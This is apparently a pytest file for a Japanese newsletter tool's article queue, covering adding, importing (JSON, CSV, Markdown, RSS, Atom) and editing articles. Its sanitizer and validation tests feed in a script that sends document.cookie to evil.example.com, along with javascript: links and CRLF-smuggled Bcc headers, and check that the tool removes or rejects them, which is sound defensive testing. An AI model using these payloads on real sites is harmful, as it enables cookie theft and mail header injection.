"""The article queue: ``newsletter article add|import|list|show|edit|withdraw``.

Tests that touch the database's behaviour run on SQLite and PostgreSQL (``project``);
tests about file formats use ``sqlite_project``.
"""

from __future__ import annotations

import json
import threading
from datetime import UTC, datetime
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlalchemy import func, select

from newsletter.config import load_config
from newsletter.store import make_engine
from newsletter.store.tables import articles


def article_rows(cli) -> list:
    engine = make_engine(load_config(cli.config_path).storage_url)
    try:
        with engine.connect() as conn:
            return list(conn.execute(select(articles).order_by(articles.c.id)))
    finally:
        engine.dispose()


def article_count(cli) -> int:
    engine = make_engine(load_config(cli.config_path).storage_url)
    try:
        with engine.connect() as conn:
            return conn.execute(select(func.count()).select_from(articles)).scalar_one()
    finally:
        engine.dispose()


def errors(result) -> list[str]:
    lines = result.stderr.splitlines()
    assert all(line.startswith("error: ") for line in lines), result.stderr
    return [line.removeprefix("error: ") for line in lines]


def write(folder: Path, name: str, content: str | bytes) -> Path:
    path = folder / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return path


# --- add, list, show, edit, withdraw ---------------------------------------------------------


def test_add_list_show_edit_withdraw(project):
    body = write(project.folder, "body.md", "## 概要\n\n県は**来年度から**全ての申請をオンライン化します。\n")
    result = project(
        "article", "add", "--field", "education", "--field", "administration",
        "--title", "県立学校の各種申請、来年度から原則オンラインに",
        "--url", "https://www.pref.shinonome.example.jp/kyoiku/online.html",
        "--summary", "紙の申請書は経過措置として1年間受け付ける。",
        "--body-file", body, "--publish-at", "2026-04-01T09:00", "--pin",
    )
    assert result.stdout.strip() == "created article 1: 県立学校の各種申請、来年度から原則オンラインに"
    project("article", "add", "--field", "地方自治", "--title", "日和市長選、投票率は過去最低の38%",
            "--url", "https://news.example.jp/hiyori/election")

    [first, second] = article_rows(project)
    assert first.fields == "administration,education"  # config order, not argument order
    assert first.publish_at == datetime(2026, 4, 1, 0, 0, tzinfo=UTC)  # naive → Asia/Tokyo → UTC
    assert first.pinned is True and first.status == "queued"
    assert first.body_format == "markdown" and "**来年度から**" in first.body
    assert second.fields == "local-government" and second.publish_at is None

    lines = project("article", "list").stdout.splitlines()
    assert len(lines) == 2
    assert lines[0].split("\t")[:5] == [
        "1", "queued", "administration,education", "2026-04-01 09:00 JST",
        "県立学校の各種申請、来年度から原則オンラインに",
    ]
    assert lines[1].split("\t")[:4] == ["2", "queued", "local-government", "-"]
    def ids(*args):
        return [ln.split("\t")[0] for ln in project("article", "list", *args).stdout.splitlines()]

    assert ids("--field", "教育") == ["1"]
    assert ids("--field", "local-government") == ["2"]

    shown = project("article", "show", "1").stdout
    assert "publish_at: 2026-04-01 09:00 JST" in shown
    assert "fields:     行政 (administration), 教育 (education)" in shown
    assert "pinned:     yes" in shown
    assert "body (markdown):" in shown and "全ての申請をオンライン化" in shown

    result = project("article", "edit", "1", "--title", "県立学校の申請、4月から原則オンライン化",
                     "--field", "教育", "--publish-at", "2026-04-01T00:00:00+00:00", "--unpin")
    assert result.stdout.strip() == "article 1: fields, pinned, title changed"
    first = article_rows(project)[0]
    assert (first.title, first.fields, first.pinned) == ("県立学校の申請、4月から原則オンライン化", "education", False)
    assert first.publish_at == datetime(2026, 4, 1, 0, 0, tzinfo=UTC)
    assert project("article", "edit", "1", "--publish-at", "none").stdout.strip() == "article 1: publish_at changed"
    assert article_rows(project)[0].publish_at is None
    assert project("article", "edit", "1", "--priority", "0").stdout.strip() == "article 1: nothing changed"

    # another article's URL cannot be taken over
    result = project("article", "edit", "1", "--url", "https://news.example.jp/hiyori/election", ok=False)
    assert result.exit_code == 1 and "already has url" in errors(result)[0]

    assert project("article", "withdraw", "2").stdout.strip() == "article 2: withdrawn (was queued)"
    assert [ln.split("\t")[0] for ln in project("article", "list", "--status", "queued").stdout.splitlines()] == ["1"]
    assert project("article", "list", "--status", "withdrawn").stdout.split("\t")[:2] == ["2", "withdrawn"]
    result = project("article", "edit", "2", "--title", "書き換え", ok=False)
    assert result.exit_code == 1
    assert errors(result) == ["article 2: is withdrawn; it can no longer be edited"]
    result = project("article", "show", "99", ok=False)
    assert result.exit_code == 1 and errors(result) == ["article 99: no such article"]


def test_adding_the_same_url_again_updates(project):
    args = ("article", "add", "--field", "education", "--url", "https://news.example.jp/kyoiku/1")
    project(*args, "--title", "教員採用試験の日程を公表")
    result = project(*args, "--title", "教員採用試験の日程を公表（訂正）")
    assert result.stdout.strip() == "updated article 1: 教員採用試験の日程を公表（訂正）"
    assert [r.title for r in article_rows(project)] == ["教員採用試験の日程を公表（訂正）"]


@pytest.mark.parametrize(
    ("publish_at", "expected"),
    [
        ("2026-04-01T09:00", datetime(2026, 4, 1, 0, 0, tzinfo=UTC)),
        ("2026/12/24 18:30", datetime(2026, 12, 24, 9, 30, tzinfo=UTC)),
        ("2026-04-01T09:00+00:00", datetime(2026, 4, 1, 9, 0, tzinfo=UTC)),
        ("2026-04-01T09:00-05:00", datetime(2026, 4, 1, 14, 0, tzinfo=UTC)),
    ],
)
def test_publish_at_is_read_in_the_site_time_zone_and_stored_as_utc(sqlite_project, publish_at, expected):
    sqlite_project("article", "add", "--field", "行政", "--title", "庁舎の休館日のお知らせ",
                   "--url", "https://news.example.jp/kyukan", "--publish-at", publish_at)
    assert article_rows(sqlite_project)[0].publish_at == expected


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--field", "sports"), "article: unknown field 'sports' (known: local-government (地方自治)"),
        (("--field", "education", "--url", "javascript:alert(1)"), "article: bad url 'javascript:alert(1)'"),
        (("--field", "education", "--url", "https://localhost/x"), "article: bad url 'https://localhost/x'"),
        (("--field", "education", "--title", "  \r\n "), "article: missing title"),
        (("--field", "education", "--publish-at", "来週の火曜"), "article: bad publish_at '来週の火曜'"),
    ],
)
def test_add_rejects_bad_input(project, args, message):
    base = {"--title": "補正予算案の概要", "--url": "https://news.example.jp/hosei"}
    for i in range(0, len(args), 2):
        base.pop(args[i], None)
    flat = [x for kv in base.items() for x in kv]
    result = project("article", "add", *flat, *args, ok=False)
    assert result.exit_code == 1
    [line] = errors(result)
    assert line.startswith(message)
    assert article_count(project) == 0


def test_titles_cannot_carry_line_breaks_or_control_characters(project):
    # Line breaks in a one-line text are folded (nothing may start a header); any other
    # control character is refused, naming the item (issue 11 item 7).
    sneaky = "人事異動のお知らせ\r\nBcc: everyone@example.jp\r\n\r\n<h1>本文</h1>"
    project("article", "add", "--field", "行政", "--title", sneaky, "--url", "https://news.example.jp/jinji")
    result = project("article", "add", "--field", "行政", "--title", sneaky + "\x1b", "--url",
                     "https://news.example.jp/jinji2", ok=False)
    assert result.exit_code == 1
    assert errors(result) == ["article: title has a control character (U+001B) at character 51"]
    items = [{"title": "防災訓練\nX-Injected: yes", "url": "https://news.example.jp/bousai", "fields": ["地方自治"],
              "author": "危機管理課\r\nBcc: a@example.jp", "body": "<p>本文</p>", "body_format": "html"},
             {"title": "防災訓練（続報）", "url": "https://news.example.jp/bousai2", "fields": ["地方自治"],
              "body": "<p>本文\x00</p>", "body_format": "html"}]
    result = project("article", "import", write(project.folder, "evil.json", json.dumps(items)), ok=False)
    assert result.exit_code == 1
    assert errors(result) == ["evil.json: item 2: body has a NUL character (U+0000) at character 6"]
    rows = article_rows(project)
    assert [r.title for r in rows] == [
        "人事異動のお知らせ Bcc: everyone@example.jp <h1>本文</h1>",
        "防災訓練 X-Injected: yes",
    ]
    assert rows[1].author == "危機管理課 Bcc: a@example.jp"
    for r in rows:
        for value in (r.title, r.author, r.summary, r.body):
            assert not any(ord(c) < 32 and c != "\n" for c in value), repr(value)
    assert len(project("article", "list").stdout.splitlines()) == 2


def test_html_bodies_are_sanitized(project):
    html = (
        '<p onclick="steal()">説明会は<a href="javascript:alert(1)">こちら</a>、'
        '資料は<a href="https://www.city.asagiri.example.jp/shiryo.pdf">市のサイト</a>へ。</p>'
        "<script>document.location='https://evil.example.com/?c='+document.cookie</script>"
        '<img src="https://evil.example.com/track.gif"><iframe src="https://evil.example.com/"></iframe>'
        '<p style="color:red">注意事項</p>'
    )
    body = write(project.folder, "body.html", html)
    project("article", "add", "--field", "教育", "--title", "保護者説明会の開催", "--url",
            "https://www.city.asagiri.example.jp/setsumeikai", "--body-file", body)
    items = [{"title": "入札情報の公開", "url": "https://www.city.asagiri.example.jp/nyusatsu", "fields": "行政",
              "body": html, "body_format": "html"}]
    project("article", "import", write(project.folder, "items.json", json.dumps(items, ensure_ascii=False)))
    for row in article_rows(project):
        assert row.body_format == "html"
        lowered = row.body.lower()
        for bad in ("<script", "onclick", "javascript:", "<img", "<iframe", "style=", "document.cookie"):
            assert bad not in lowered, (bad, row.body)
        assert '<a href="https://www.city.asagiri.example.jp/shiryo.pdf" rel="noopener">市のサイト</a>' in row.body
        assert "<p>注意事項</p>" in row.body
    assert "<script" not in project("article", "show", "1").stdout


# --- import: JSON ------------------------------------------------------------------------------

NEWS = [
    {"title": "朝霧市、窓口のキャッシュレス決済を全庁に拡大", "url": "https://news.example.jp/asagiri/cashless",
     "fields": ["行政"], "summary": "住民票の写しなど約120手続で利用可能に。", "guid": "asagiri-2026-001"},
    {"title": "北浜村、移住者向け住宅を新築", "url": "https://news.example.jp/kitahama/jutaku",
     "fields": "地方自治", "publish_at": "2026-05-10T10:00", "author": "北浜村 企画課"},
    {"title": "不登校支援の新拠点、駅前に開設", "url": "https://news.example.jp/hiyori/futoko",
     "fields": ["education", "local-government"], "pinned": True, "priority": 3},
]


def test_import_json_then_reimport_updates_without_duplicates(project):
    path = write(project.folder, "news.json", json.dumps(NEWS, ensure_ascii=False, indent=2))
    result = project("article", "import", path)
    assert result.stdout.strip() == f"imported {path}: 3 new, 0 updated, 0 unchanged"
    rows = article_rows(project)
    assert [r.fields for r in rows] == ["administration", "local-government", "local-government,education"]
    assert rows[1].publish_at == datetime(2026, 5, 10, 1, 0, tzinfo=UTC)
    assert rows[2].pinned is True and rows[2].priority == 3
    assert rows[0].guid == "asagiri-2026-001" and rows[0].source == str(path)

    changed = [dict(item) for item in NEWS]
    changed[0]["title"] = "朝霧市、窓口のキャッシュレス決済を全庁に拡大（4月から）"
    changed[0]["url"] = "https://news.example.jp/asagiri/cashless-2"  # same guid, new url: same article
    changed[2]["summary"] = "臨床心理士が常駐する。"  # no guid: same url, same article
    path.write_text(json.dumps({"articles": changed}, ensure_ascii=False), encoding="utf-8")
    result = project("article", "import", path)
    assert result.stdout.strip() == f"imported {path}: 0 new, 2 updated, 1 unchanged"
    rows = article_rows(project)
    assert len(rows) == 3
    assert rows[0].title.endswith("（4月から）") and rows[0].url.endswith("cashless-2")
    assert rows[2].summary == "臨床心理士が常駐する。"


def test_a_dry_run_counts_what_the_import_would_do_and_writes_nothing(project):
    """--dry-run runs the import in a transaction it rolls back: its counts, and its
    refusals of conflicts with stored articles, are the real import's."""
    path = write(project.folder, "news.json", json.dumps(NEWS[:2], ensure_ascii=False))
    project("article", "import", path)
    changed = [{**NEWS[1], "summary": "新しい概要です。"}, NEWS[2],
               # The guid of stored article 1 with the url of article 2: a conflict only the database shows.
               {**NEWS[0], "url": NEWS[1]["url"]}]
    path.write_text(json.dumps(changed, ensure_ascii=False), encoding="utf-8")
    before = [tuple(r) for r in article_rows(project)]
    result = project("article", "import", "--dry-run", path, ok=False)
    assert result.stdout.strip() == f"would import {path}: 1 new, 1 updated, 0 unchanged, 1 rejected"
    assert errors(result) == [f"news.json: item 3: url '{NEWS[1]['url']}' already belongs to article 2"]
    assert [tuple(r) for r in article_rows(project)] == before
    result = project("article", "import", path, ok=False)
    assert result.stdout.strip() == f"imported {path}: 1 new, 1 updated, 0 unchanged, 1 rejected"
    assert len(article_rows(project)) == 3


def test_reimport_never_resurrects_a_withdrawn_article(sqlite_project):
    path = write(sqlite_project.folder, "news.json", json.dumps(NEWS[:1], ensure_ascii=False))
    sqlite_project("article", "import", path)
    sqlite_project("article", "withdraw", "1")
    sqlite_project("article", "import", path)
    assert [r.status for r in article_rows(sqlite_project)] == ["withdrawn"]


BAD_JSON = [
    NEWS[0],
    {"title": "議会日程", "url": "https://news.example.jp/gikai", "fields": ["行政"], "colour": "赤"},
    {"title": "  ", "url": "https://news.example.jp/notitle", "fields": ["行政"]},
    {"title": "リンク切れ", "url": "news.example.jp/relative", "fields": ["行政"]},
    {"title": "スポーツ大会", "url": "https://news.example.jp/sports", "fields": ["スポーツ"]},
    NEWS[1],
]


def test_json_errors_name_the_item_and_the_good_items_go_in(project):
    path = write(project.folder, "news.json", json.dumps(BAD_JSON, ensure_ascii=False))
    result = project("article", "import", path, ok=False)
    assert result.exit_code == 1
    assert errors(result) == [
        "news.json: item 2: unknown key 'colour'",
        "news.json: item 3: missing title",
        "news.json: item 4: bad url 'news.example.jp/relative' (expected http:// or https:// with a host name)",
        "news.json: item 5: unknown field 'スポーツ' (known: local-government (地方自治), administration (行政), "
        "education (教育))",
    ]
    assert result.stdout.strip() == f"imported {path}: 2 new, 0 updated, 0 unchanged, 4 rejected"
    assert [r.url for r in article_rows(project)] == [NEWS[0]["url"], NEWS[1]["url"]]


def test_strict_json_import_writes_nothing(project):
    path = write(project.folder, "news.json", json.dumps(BAD_JSON, ensure_ascii=False))
    before = article_count(project)
    result = project("article", "import", "--strict", path, ok=False)
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert lines[0] == "error: news.json: item 2: unknown key 'colour'"
    assert lines[-1] == "nothing imported: 4 bad item(s) (--strict)"
    assert result.stdout == ""
    assert article_count(project) == before == 0
    # and a clean file with --strict goes in
    clean = write(project.folder, "clean.json", json.dumps(NEWS, ensure_ascii=False))
    project("article", "import", "--strict", clean)
    assert article_count(project) == 3


def test_invalid_json_is_one_line_naming_the_line(sqlite_project):
    path = write(sqlite_project.folder, "broken.json", '[\n  {"title": "途中で切れた",\n')
    result = sqlite_project("article", "import", path, ok=False)
    assert result.exit_code == 1
    [line] = errors(result)
    assert line.startswith("broken.json:3: invalid JSON")


def test_same_item_twice_in_one_file_is_reported(sqlite_project):
    path = write(sqlite_project.folder, "twice.json", json.dumps([NEWS[1], NEWS[1]], ensure_ascii=False))
    result = sqlite_project("article", "import", path, ok=False)
    assert errors(result) == [f"twice.json: item 2: same item as twice.json: item 1 (guid/url '{NEWS[1]['url']}')"]
    assert article_count(sqlite_project) == 1


# --- import: CSV ------------------------------------------------------------------------------

CSV_TEXT = (
    "タイトル,URL,分野,概要,公開日時\r\n"
    "鈴ヶ峰町、ふるさと納税の返礼品を見直し,https://news.example.jp/suzugamine/furusato,地方自治,"
    "\"地場産品の比率を高め、経費を5割以下に。\",2026-06-01 09:00\r\n"
    "教員の働き方改革、部活動の地域移行を前倒し,https://news.example.jp/kyoiku/bukatsu,教育・行政,,\r\n"
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_import_csv_with_japanese_headers(project, encoding):
    path = write(project.folder, "news.csv", CSV_TEXT.encode(encoding))
    result = project("article", "import", path)
    assert result.stdout.strip() == f"imported {path}: 2 new, 0 updated, 0 unchanged"
    rows = article_rows(project)
    assert [r.title for r in rows] == [
        "鈴ヶ峰町、ふるさと納税の返礼品を見直し", "教員の働き方改革、部活動の地域移行を前倒し",
    ]
    assert rows[0].summary == "地場産品の比率を高め、経費を5割以下に。"
    assert rows[0].publish_at == datetime(2026, 6, 1, 0, 0, tzinfo=UTC)
    assert rows[1].fields == "administration,education"
    # the same file again changes nothing
    assert project("article", "import", path).stdout.strip() == f"imported {path}: 0 new, 0 updated, 2 unchanged"
    assert article_count(project) == 2


def test_csv_errors_name_file_and_line(sqlite_project):
    text = CSV_TEXT + (
        "市民マラソンの結果,https://news.example.jp/marathon,スポーツ,,\r\n"
        ",https://news.example.jp/untitled,行政,,\r\n"
        "議会中継,ftp://news.example.jp/gikai,行政,,\r\n"
    )
    path = write(sqlite_project.folder, "news.csv", text.encode("cp932"))
    result = sqlite_project("article", "import", path, ok=False)
    assert result.exit_code == 1
    assert [e.split(": ", 1)[0] for e in errors(result)] == ["news.csv:4", "news.csv:5", "news.csv:6"]
    assert "unknown field 'スポーツ'" in errors(result)[0]
    assert errors(result)[1] == "news.csv:5: missing title"
    assert errors(result)[2].startswith("news.csv:6: bad url 'ftp://news.example.jp/gikai'")
    assert article_count(sqlite_project) == 2
    path.write_bytes((text.replace("返礼品を見直し", "返礼品を全面見直し")).encode("cp932"))
    result = sqlite_project("article", "import", "--strict", path, ok=False)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[-1] == "nothing imported: 3 bad item(s) (--strict)"
    assert [r.title for r in article_rows(sqlite_project)][0] == "鈴ヶ峰町、ふるさと納税の返礼品を見直し"  # not updated


def test_csv_without_a_title_column(sqlite_project):
    path = write(sqlite_project.folder, "news.csv", "見出しなし,URL\r\nx,https://news.example.jp/x\r\n".encode("cp932"))
    result = sqlite_project("article", "import", path, ok=False)
    [line] = errors(result)
    assert line.startswith("news.csv:1: no 'title' column in the header")


# --- import: Markdown with front matter ------------------------------------------------------

MARKDOWN = """\
---
title: 学校給食費の無償化を決定
url: https://www.town.suzugamine.example.jp/kyoiku/kyushoku.html
fields: [教育, 地方自治]
author: 鈴ヶ峰町教育委員会
publish_at: 2026-05-01 08:00
summary: 来年度から町立小中学校の給食費を無償化する。
---
## 概要

町は**来年度から**給食費を無償化します。対象は約1,200人です。
"""


def test_import_markdown_with_front_matter(project):
    path = write(project.folder, "kyushoku.md", MARKDOWN)
    project("article", "import", path)
    [row] = article_rows(project)
    assert row.title == "学校給食費の無償化を決定"
    assert row.fields == "local-government,education"
    assert row.author == "鈴ヶ峰町教育委員会"
    assert row.publish_at == datetime(2026, 4, 30, 23, 0, tzinfo=UTC)
    assert row.body_format == "markdown"
    assert row.body.startswith("## 概要\n\n町は**来年度から**")
    path.write_text(MARKDOWN.replace("無償化を決定", "無償化を正式決定"), encoding="utf-8")
    assert project("article", "import", path).stdout.strip().endswith("0 new, 1 updated, 0 unchanged")
    assert [r.title for r in article_rows(project)] == ["学校給食費の無償化を正式決定"]


def test_markdown_errors(sqlite_project):
    no_front = write(sqlite_project.folder, "plain.md", "# 見出しだけ\n")
    [line] = errors(sqlite_project("article", "import", no_front, ok=False))
    assert line.startswith("plain.md:1: no front matter")
    bad_field = write(sqlite_project.folder, "bad.md", MARKDOWN.replace("[教育, 地方自治]", "[観光]"))
    result = sqlite_project("article", "import", bad_field, ok=False)
    assert result.exit_code == 1
    assert errors(result)[0].startswith("bad.md: unknown field '観光'")
    assert article_count(sqlite_project) == 0


# --- import: RSS 2.0 and Atom, from a file and over HTTP -------------------------------------

RSS = """\
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
  <title>東雲県 報道発表</title>
  <link>https://www.pref.shinonome.example.jp/</link>
  <description>東雲県の報道発表資料</description>
  <item>
    <title>県立高校の入学者選抜、出願をオンライン化</title>
    <link>https://www.pref.shinonome.example.jp/press/2026/0412.html</link>
    <guid isPermaLink="false">shinonome-press-2026-0412</guid>
    <category>教育</category>
    <pubDate>Sun, 12 Apr 2026 10:00:00 +0900</pubDate>
    <description><![CDATA[<p>令和9年度入試から<b>全日制</b>の出願を電子申請に。</p>]]></description>
  </item>
  <item>
    <title>県内全域で総合防災訓練を実施</title>
    <link>https://www.pref.shinonome.example.jp/press/2026/0413.html</link>
    <category>地方自治</category>
    <category>防災</category>
    <pubDate>Mon, 13 Apr 2026 14:30:00 +0900</pubDate>
    <description>9月1日に県内全域で実施します。住民の皆様もご参加ください。</description>
  </item>
</channel>
</rss>
"""

ATOM = """\
<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>日和市 新着情報</title>
  <id>tag:city.hiyori.example.jp,2026:news</id>
  <updated>2026-04-15T09:00:00+09:00</updated>
  <entry>
    <title>マイナンバーカードの出張申請窓口を開設</title>
    <link href="https://www.city.hiyori.example.jp/news/mynumber.html"/>
    <id>tag:city.hiyori.example.jp,2026:news/101</id>
    <updated>2026-04-15T09:00:00+09:00</updated>
    <category term="administration"/>
    <author><name>日和市 市民課</name></author>
    <summary>市内6か所の公民館で出張申請を受け付けます。</summary>
    <content type="html">&lt;p&gt;受付は&lt;a href="https://www.city.hiyori.example.jp/"&gt;市ホームページ&lt;/a&gt;で。&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>市立図書館の開館時間を延長</title>
    <link href="https://www.city.hiyori.example.jp/news/library.html"/>
    <id>tag:city.hiyori.example.jp,2026:news/102</id>
    <updated>2026-04-16T12:00:00Z</updated>
    <summary>平日は午後8時まで開館します。</summary>
  </entry>
</feed>
"""


def test_import_rss_and_reimport_updates(project):
    path = write(project.folder, "press.xml", RSS)
    result = project("article", "import", path)
    assert result.stdout.strip() == f"imported {path}: 2 new, 0 updated, 0 unchanged"
    rows = article_rows(project)
    assert [r.fields for r in rows] == ["education", "local-government"]  # 防災 is not ours and is dropped
    assert rows[0].guid == "shinonome-press-2026-0412"
    assert rows[0].guid != rows[0].url
    assert rows[0].publish_at == datetime(2026, 4, 12, 1, 0, tzinfo=UTC)
    assert rows[0].summary == "令和9年度入試から全日制の出願を電子申請に。"
    assert "<b>全日制</b>" in rows[0].body and rows[0].body_format == "html"
    assert rows[1].guid == rows[1].url  # no <guid>: the link is the identity

    path.write_text(RSS.replace("出願をオンライン化", "出願を全面オンライン化"), encoding="utf-8")
    result = project("article", "import", path)
    assert result.stdout.strip() == f"imported {path}: 0 new, 1 updated, 1 unchanged"
    assert [r.title for r in article_rows(project)] == [
        "県立高校の入学者選抜、出願を全面オンライン化", "県内全域で総合防災訓練を実施",
    ]


def test_import_atom_with_a_default_field(sqlite_project):
    path = write(sqlite_project.folder, "hiyori.atom", ATOM)
    result = sqlite_project("article", "import", path, ok=False)  # entry 2 names no field
    assert result.exit_code == 1
    assert errors(result) == [
        "hiyori.atom: entry 2 (https://www.city.hiyori.example.jp/news/library.html): no field given"
    ]
    assert [r.fields for r in article_rows(sqlite_project)] == ["administration"]
    result = sqlite_project("article", "import", path, "--field", "地方自治")
    assert result.stdout.strip() == f"imported {path}: 1 new, 0 updated, 1 unchanged"
    rows = article_rows(sqlite_project)
    assert [r.fields for r in rows] == ["administration", "local-government"]
    assert rows[0].author == "日和市 市民課"
    assert rows[0].guid == "tag:city.hiyori.example.jp,2026:news/101"
    assert '<a href="https://www.city.hiyori.example.jp/" rel="noopener">市ホームページ</a>' in rows[0].body
    assert rows[1].publish_at == datetime(2026, 4, 16, 12, 0, tzinfo=UTC)


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):  # noqa: A002 - keep test output clean
        pass


@pytest.fixture
def feed_server(tmp_path):
    """A real HTTP server on 127.0.0.1 serving files from a folder."""
    folder = tmp_path / "www"
    folder.mkdir()
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_QuietHandler, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield folder, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_import_feed_by_url(sqlite_project, feed_server):
    folder, base = feed_server
    write(folder, "press", RSS)  # no extension: the content tells
    result = sqlite_project("article", "import", f"{base}/press")
    assert result.stdout.strip() == f"imported {base}/press: 2 new, 0 updated, 0 unchanged"
    assert [r.source for r in article_rows(sqlite_project)] == [f"{base}/press"] * 2
    assert sqlite_project("article", "import", f"{base}/press").stdout.strip().endswith("0 new, 0 updated, 2 unchanged")
    result = sqlite_project("article", "import", f"{base}/missing.xml", ok=False)
    assert result.exit_code == 1
    assert errors(result) == [f"{base}/missing.xml: cannot fetch (HTTP 404)"]
    assert article_count(sqlite_project) == 2


def test_missing_file_and_unknown_format(sqlite_project):
    result = sqlite_project("article", "import", sqlite_project.folder / "nothing.json", ok=False)
    assert result.exit_code == 1 and errors(result)[0].endswith("nothing.json: no such file")
    path = write(sqlite_project.folder, "memo.txt", "ただのメモです")
    result = sqlite_project("article", "import", path, ok=False)
    assert result.exit_code == 1 and "cannot tell the format" in errors(result)[0]


def test_a_guid_moving_onto_another_articles_url_is_an_item_error(project):
    first = [
        {"title": "記事A", "url": "https://news.example.jp/a", "guid": "press-001", "fields": "教育"},
        {"title": "記事B", "url": "https://news.example.jp/b", "fields": "教育"},
    ]
    project("article", "import", write(project.folder, "first.json", json.dumps(first, ensure_ascii=False)))
    moved = [
        {"title": "記事A（改）", "url": "https://news.example.jp/b", "guid": "press-001", "fields": "教育"},
        {"title": "記事C", "url": "https://news.example.jp/c", "fields": "行政"},
    ]
    path = write(project.folder, "moved.json", json.dumps(moved, ensure_ascii=False))
    result = project("article", "import", "--strict", path, ok=False)
    assert result.exit_code == 1
    assert errors(result) == [
        "moved.json: item 1: url 'https://news.example.jp/b' already belongs to article 2; nothing imported (--strict)"
    ]
    assert [(r.title, r.url) for r in article_rows(project)] == [
        ("記事A", "https://news.example.jp/a"), ("記事B", "https://news.example.jp/b"),
    ]
    result = project("article", "import", path, ok=False)
    assert result.exit_code == 1
    assert errors(result) == ["moved.json: item 1: url 'https://news.example.jp/b' already belongs to article 2"]
    assert [r.title for r in article_rows(project)] == ["記事A", "記事B", "記事C"]
    result = project("article", "add", "--field", "教育", "--guid", "press-001", "--title", "記事A",
                     "--url", "https://news.example.jp/b", ok=False)
    assert errors(result) == ["article: url 'https://news.example.jp/b' already belongs to article 2"]
